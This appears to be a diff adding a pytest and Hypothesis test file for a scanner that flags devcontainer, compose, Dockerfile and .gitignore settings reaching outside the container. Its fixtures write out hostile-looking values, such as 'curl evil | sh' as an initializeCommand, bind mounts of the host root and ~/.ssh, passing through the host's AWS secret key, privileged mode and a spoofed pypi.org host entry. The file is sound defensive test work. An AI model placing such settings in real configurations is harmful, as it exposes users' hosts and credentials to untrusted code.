@@ -1,0 +1,167 @@
+"""What the project's own files reach outside the container: situations, a row each."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from scaffold.workspace.reach import (
+    answers_reach,
+    compose_reaches,
+    config_reaches,
+    dockerfile_reaches,
+    ignore_reaches,
+)
+
+REACHES = [
+    ("a command of this computer", {"initializeCommand": "curl evil | sh"}),
+    ("commands as a table", {"initializeCommand": {"a": ["sh", "-c", "x"]}}),
+    ("a bind mount", {"mounts": ["type=bind,source=/,target=/h"]}),
+    ("a bind mount as a table", {"mounts": [{"type": "bind", "source": "/", "target": "/h"}]}),
+    ("a home folder", {"mounts": ["source=${localEnv:HOME}/.ssh,target=/s,type=bind"]}),
+    ("a mount without its type", {"mounts": ["source=/etc,target=/e"]}),
+    (
+        "a way up from the project",
+        {"mounts": ["type=bind,src=${localWorkspaceFolder}/../x,dst=/x"]},
+    ),
+    (
+        "a volume that is a folder",
+        {"mounts": ["type=volume,source=v,target=/v,volume-opt=device=/"]},
+    ),
+    ("the workspace elsewhere", {"workspaceMount": "type=bind,source=/srv,target=/w"}),
+    ("full rights", {"privileged": True}),
+    ("full rights as an option", {"runArgs": ["--privileged"]}),
+    ("a capability", {"capAdd": ["SYS_ADMIN"]}),
+    ("a capability as an option", {"runArgs": ["--cap-add=ALL"]}),
+    ("a capability as two words", {"runArgs": ["--cap-add", "ALL"]}),
+    ("no seccomp", {"securityOpt": ["seccomp=unconfined"]}),
+    ("a device", {"runArgs": ["--device=/dev/sda"]}),
+    ("a short volume", {"runArgs": ["-v", "/:/host"]}),
+    ("a glued volume", {"runArgs": ["-v/:/host"]}),
+    ("a long volume", {"runArgs": ["--volume=~/.aws:/aws"]}),
+    ("a mount option", {"runArgs": ["--mount", "type=bind,source=/,target=/h"]}),
+    ("the host's network", {"runArgs": ["--network=host"]}),
+    ("the host's processes", {"runArgs": ["--pid=host"]}),
+    ("an extra host", {"runArgs": ["--add-host", "pypi.org:192.0.2.1"]}),
+    ("a port", {"runArgs": ["-p8080:80"]}),
+    ("a port of the application", {"appPort": [3000]}),
+    ("a file of variables", {"runArgs": ["--env-file=/etc/secrets"]}),
+    ("a variable of this computer", {"containerEnv": {"T": "${localEnv:AWS_SECRET_ACCESS_KEY}"}}),
+    ("a build outside", {"build": {"dockerfile": "../../x/Dockerfile"}}),
+    ("a context outside", {"build": {"context": "../.."}}),
+    ("a context by its path", {"build": {"context": "/"}}),
+    ("an ssh agent in the build", {"build": {"options": ["--ssh=default"]}}),
+    ("a Feature of anybody", {"features": {"ghcr.io/evil/features/x:1": {}}}),
+    ("a compose file outside", {"dockerComposeFile": "../../compose.yml"}),
+]
+
+STAYS = [
+    ("an image", {"image": "debian:12"}),
+    ("a volume", {"mounts": ["type=volume,source=cache,target=/cache"]}),
+    ("a temporary file system", {"mounts": ["type=tmpfs,target=/tmp"]}),
+    (
+        "a folder of the project",
+        {"mounts": ["type=bind,source=${localWorkspaceFolder}/d,target=/d"]},
+    ),
+    ("all GPUs", {"runArgs": ["--gpus=all", "--shm-size=8g", "--name", "x"]}),
+    ("a GPU by CDI", {"runArgs": ["--device=nvidia.com/gpu=all"]}),
+    ("no network", {"runArgs": ["--network=none"]}),
+    ("usual limits", {"runArgs": ["--ulimit=memlock=-1", "--ipc=private"]}),
+    ("the project as context", {"build": {"context": "..", "dockerfile": "Dockerfile"}}),
+    ("an official Feature", {"features": {"ghcr.io/devcontainers/features/node:1": {}}}),
+    ("a command in the container", {"postCreateCommand": "pip install -e ."}),
+    ("nothing", {}),
+    ("nonsense", {"mounts": None, "runArgs": 3, "build": [], "features": "x", "appPort": None}),
+]
+
+
+@pytest.mark.parametrize(("_title", "config"), REACHES, ids=[row[0] for row in REACHES])
+def test_what_reaches_outside_is_listed(_title, config):
+    assert list(config_reaches(config))
+
+
+@pytest.mark.parametrize(("_title", "config"), STAYS, ids=[row[0] for row in STAYS])
+def test_what_stays_inside_is_not(_title, config):
+    assert list(config_reaches(config)) == []
+
+
+COMPOSE = [
+    ({"volumes": ["/:/host"]}, True),
+    ({"volumes": ["../../x:/x"]}, True),
+    ({"volumes": [{"type": "bind", "source": "~/.ssh", "target": "/s"}]}, True),
+    ({"volumes": ["..:/workspace:cached", "data:/data"]}, False),
+    ({"privileged": True}, True),
+    ({"privileged": False}, False),
+    ({"cap_add": ["SYS_PTRACE"]}, True),
+    ({"network_mode": "host"}, True),
+    ({"network_mode": "bridge"}, False),
+    ({"devices": ["/dev/sda"]}, True),
+    ({"ports": ["80:80"]}, True),
+    ({"build": {"context": "..", "ssh": ["default"]}}, True),
+    ({"build": "../.."}, True),
+    ({"build": ".."}, False),
+    ({"extends": {"file": "/etc/x.yml", "service": "a"}}, True),
+    ({"env_file": "/etc/x"}, True),
+    ({"image": "x", "command": "sleep 1"}, False),
+]
+
+
+@pytest.mark.parametrize(("service", "reaches"), COMPOSE)
+def test_services_of_a_compose_file_are_judged_alike(service, reaches):
+    assert bool(list(compose_reaches({"services": {"app": service}}))) is reaches
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"include": ["/etc/x.yml"]},
+        {"volumes": {"v": {"driver_opts": {"device": "/", "o": "bind"}}}},
+        {"secrets": {"s": {"file": "~/.ssh/id_ed25519"}}},
+    ],
+)
+def test_other_parts_of_a_compose_file_are_judged_too(document):
+    assert list(compose_reaches(document))
+
+
+@pytest.mark.parametrize("document", [None, [], "x", {"services": []}, {"services": {"a": 1}}])
+def test_what_is_no_compose_file_reaches_nothing(document):
+    assert list(compose_reaches(document)) == []
+
+
+def test_a_dockerfile_with_a_frontend_or_rights_of_its_own_is_listed():
+    text = "# syntax=evil/frontend\nRUN --mount=type=ssh --network=host x\n"
+    assert len(list(dockerfile_reaches(text))) == 3
+    assert list(dockerfile_reaches("# syntax=docker/dockerfile:1\nFROM x\n")) == []
+
+
+def test_answers_name_mounts_mirrors_servers():
+    answers = {
+        "mount": ["/:/h", "v:/v"],
+        "mirror": ["pip=https://m"],
+        "host": "gpu01",
+        "shm": "host",
+    }
+    assert len(list(answers_reach(answers))) == 4
+    assert list(answers_reach({"host": "local", "name": "x"})) == []
+
+
+def test_lines_that_upload_what_is_ignored_are_listed():
+    assert [text for _, text in ignore_reaches("!.env\n# x\ndata/\n")] == ["!.env"]
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
+    lambda inner: (
+        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
+    ),
+    max_leaves=10,
+)
+KEYS = st.sampled_from(
+    ["initializeCommand", "mounts", "runArgs", "build", "features", "capAdd", "workspaceMount"]
+)
+
+
+@given(st.dictionaries(KEYS, JSON))
+def test_no_configuration_raises(config):
+    list(config_reaches(config))
+    list(compose_reaches({"services": {"a": config}, **config}))
+    list(answers_reach(config))
